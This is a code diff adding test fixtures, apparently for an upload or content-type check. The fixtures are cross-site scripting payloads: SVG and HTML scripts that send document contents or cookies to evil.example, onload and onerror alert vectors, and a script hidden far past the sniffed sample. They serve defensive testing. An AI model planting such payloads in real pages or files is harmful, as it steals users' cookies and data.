@@ -218,3 +218,37 @@ ALLOWED = {
     "notes.txt": (lambda: TXT, "text/plain"),
     "contacts.csv": (lambda: CSV, "text/csv"),
 }
+
+
+# Hostile text: markup a browser would run if the file were ever rendered as a page ---------
+
+SVG_WITH_SCRIPT = (
+    b'<?xml version="1.0" encoding="UTF-8"?>\n'
+    b'<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">'
+    b"<script>fetch('/documents/').then(r => r.text()).then(t => navigator.sendBeacon("
+    b"'https://evil.example/', t))</script>"
+    b'<rect width="64" height="64" fill="red"/></svg>\n'
+)
+SVG_ONLOAD = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>\n'
+HTML_PAGE = (
+    b"<!DOCTYPE html>\n<html><head><title>Invoice 2041</title></head>\n"
+    b"<body><p>Please pay the invoice below.</p>"
+    b"<script>document.location = 'https://evil.example/?c=' + document.cookie</script>"
+    b"</body></html>\n"
+)
+HTML_FRAGMENT = b"\n  <p>Dear customer,</p>\n<img src=x onerror=alert(1)>\n"
+XML_WITH_SCRIPT = (
+    b'<?xml version="1.0"?>\n<order xmlns:h="http://www.w3.org/1999/xhtml">'
+    b"<id>2041</id><h:script>alert(1)</h:script></order>\n"
+)
+PLAIN_XML = b'<?xml version="1.0"?>\n<order><id>2041</id><total>100</total></order>\n'
+# A page of harmless notes hiding a script far past any sniffed sample.
+NOTES_HIDING_A_SCRIPT = b"Meeting notes, all fine.\n" * 8000 + b"<script>alert(1)</script>\n"
+# Text that only talks about markup stays text.
+TEXT_ABOUT_MARKUP = b"If a < b and c > d, use the <b> tag; 3<4.\nPrice <100 EUR\n"
+
+
+def utf16(text: str, byteorder: str = "le") -> bytes:
+    """What Notepad saves as "Unicode" (UTF-16 little-endian with its byte-order mark), or
+    big-endian."""
+    return ("\ufeff" + text).encode("utf-16-le" if byteorder == "le" else "utf-16-be")
